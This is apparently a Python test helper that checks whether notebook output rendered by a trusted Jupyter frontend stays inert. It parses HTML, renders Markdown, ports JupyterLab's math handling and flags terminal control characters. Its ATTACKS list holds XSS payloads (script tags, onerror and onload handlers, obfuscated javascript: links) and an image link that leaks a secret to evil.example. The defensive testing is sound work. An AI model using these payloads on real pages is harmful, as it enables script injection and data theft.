"""Checks that an output bundle is inert: what a trusted cell would render runs nothing.

``problems(html)`` parses HTML (``html.parser``, not substring matching) and lists every
active part: script-capable elements, ``on*`` attributes, ``javascript:``/``data:`` links,
images that load from elsewhere. ``render(markdown)`` is a real Markdown parser (mistune)
set up like a trusted frontend: raw HTML passes, no URL filtering of its own.
``harmless(text)`` is the terminal's counterpart: no character a terminal would obey or hide.
"""

from __future__ import annotations

import re
import unicodedata
from html.parser import HTMLParser
from typing import Any

__all__ = ["ATTACKS", "bundle_problems", "elements", "harmless", "problems", "render",
           "render_jupyterlab"]

# What a model (or a tool output, or a file) might carry; every one must stay text.
ATTACKS = [
    "<img src=x onerror=\"window.__pwned=1\">",
    "<script>window.__pwned=1</script>",
    "<svg onload=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](  JaVaScRiPt&#58;alert(1))",
    "![leak](http://evil.example/?secret=1)",
    "<iframe src=javascript:alert(1)></iframe>",
    "`a` <b onmouseover=alert(1)>x</b> `b`",
]

_ACTIVE = {"script", "iframe", "frame", "object", "embed", "form", "svg", "math", "style",
           "link", "meta", "base", "input", "button", "textarea"}


class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag in _ACTIVE:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            value = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=>")
            if name in ("href", "src", "action", "formaction", "xlink:href"):
                if value.startswith(("javascript:", "vbscript:")):
                    self.found.append(f"<{tag} {name}=javascript:>")
                elif value.startswith("data:") and not (
                        tag == "img" and re.match(r"data:image/(png|jpeg|gif|webp|svg\+xml)", value)):
                    self.found.append(f"<{tag} {name}=data:>")
                elif tag == "img" and name == "src" and not value.startswith("data:"):
                    self.found.append(f"<img src={value}>")  # loads (and leaks) on render


def problems(markup: str) -> list[str]:
    """Every active part of ``markup``."""
    parser = _Collect()
    parser.feed(markup)
    parser.close()
    return parser.found


def elements(markup: str) -> list[str]:
    """The element names in ``markup``, in order."""
    parser = _Collect()
    parser.feed(markup)
    parser.close()
    return parser.tags


def render(markdown: str) -> str:
    """``markdown`` as a trusted frontend renders it (raw HTML kept, no URL filter)."""
    import mistune

    md = mistune.create_markdown(
        renderer=mistune.HTMLRenderer(escape=False, allow_harmful_protocols=True),
        plugins=["table", "strikethrough", "url"])
    return str(md(markdown))


# JupyterLab's removeMath/replaceMath (@jupyterlab/rendermime latex.ts, as shipped in the
# jlab_core bundle), ported line for line: math is cut out *before* the Markdown parser
# runs and pasted back into its HTML escaping only & < > -- so where the cut lands decides
# what the parser sees, and pasted text can end up inside an attribute.
_MATHSPLIT = re.compile(r"(\$\$?|\\(?:begin|end)\{[a-z]*\*?\}|\\[{}$]|[{}]|(?:\n\s*)+|@@\d+@@"
                        r"|\\\\[()[\]])", re.IGNORECASE)


def _remove_math(text: str) -> tuple[str, list[str]]:
    math: list[str] = []

    def restore(s: str) -> str:
        return s
    if "`" in text or "~~~" in text:
        text = text.replace("~", "~T")
        text = re.sub(r"^(?P<fence>`{3,}|(?:~T){3,})[^`\n]*\n[\s\S]*?^(?P=fence)`*$",
                      lambda m: m.group(0).replace("$", "~D"), text, flags=re.MULTILINE)
        text = re.sub(r"(^|[^\\])(`+)([^\n]*?[^`\n])\2(?!`)",
                      lambda m: m.group(0).replace("$", "~D"), text, flags=re.MULTILINE)

        def restore(s: str) -> str:
            return re.sub(r"~([TD])", lambda m: "~" if m.group(1) == "T" else "$", s)
    blocks = _MATHSPLIT.split(text.replace("\r\n", "\n").replace("\r", "\n"))
    start: int | None = None
    end: str | None = None
    last: int | None = None
    braces = 0

    def process(i: int, j: int) -> None:
        block = "".join(blocks[i:j + 1]).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        for k in range(j, i, -1):
            blocks[k] = ""
        blocks[i] = f"@@{len(math)}@@"
        math.append(restore(block))

    i = 1
    while i < len(blocks):
        block = blocks[i]
        if block[0] == "@":
            blocks[i] = f"@@{len(math)}@@"
            math.append(block)
        elif start is not None:
            if block == end:
                if braces:
                    last = i
                else:
                    process(start, i)
                    start = end = last = None
            elif re.search(r"\n.*\n", block):
                if last is not None:
                    i = last
                    process(start, i)
                start = end = last = None
                braces = 0
            elif block == "{":
                braces += 1
            elif block == "}" and braces:
                braces -= 1
        elif block in ("$", "$$"):
            start, end, braces = i, block, 0
        elif block in ("\\\\(", "\\\\["):
            start, end, braces = i, "\\\\)" if block[-1] == "(" else "\\\\]", 0
        elif block[1:6] == "begin":
            start, end, braces = i, "\\end" + block[6:], 0
        i += 2
    if start is not None and last is not None:
        process(start, last)
    return restore("".join(blocks)), math


def _replace_math(markup: str, math: list[str]) -> str:
    def back(m: re.Match[str]) -> str:
        s = math[int(m.group(1))]
        if s.startswith("\\\\(") and s.endswith("\\\\)"):
            s = "\\(" + s[3:-3] + "\\)"
        elif s.startswith("\\\\[") and s.endswith("\\\\]"):
            s = "\\[" + s[3:-3] + "\\]"
        return s
    return re.sub(r"@@(\d+)@@", back, markup)


def render_jupyterlab(markdown: str) -> str:
    """``markdown`` as JupyterLab renders a trusted output: math cut out, parsed, pasted back."""
    text, math = _remove_math(markdown)
    return _replace_math(render(text), math)


def bundle_problems(data: dict[str, Any]) -> list[str]:
    """What would be live if a trusted cell showed this bundle."""
    found = [f"mimetype {m}" for m in data
             if m not in ("text/plain", "text/html", "text/markdown", "image/png", "image/jpeg",
                          "image/gif", "text/latex", "application/json")]
    if "text/html" in data:
        found += problems(_text(data["text/html"]))
    if "text/markdown" in data:
        found += problems(render(_text(data["text/markdown"])))
    return found


def _text(value: Any) -> str:
    return value if isinstance(value, str) else "".join(value)


def harmless(shown: str) -> bool:
    """No character a terminal would obey or hide: controls (but \\n, \\t), format, separators."""
    return not any(unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp", "Cs")
                   and ch not in "\n\t" for ch in shown)
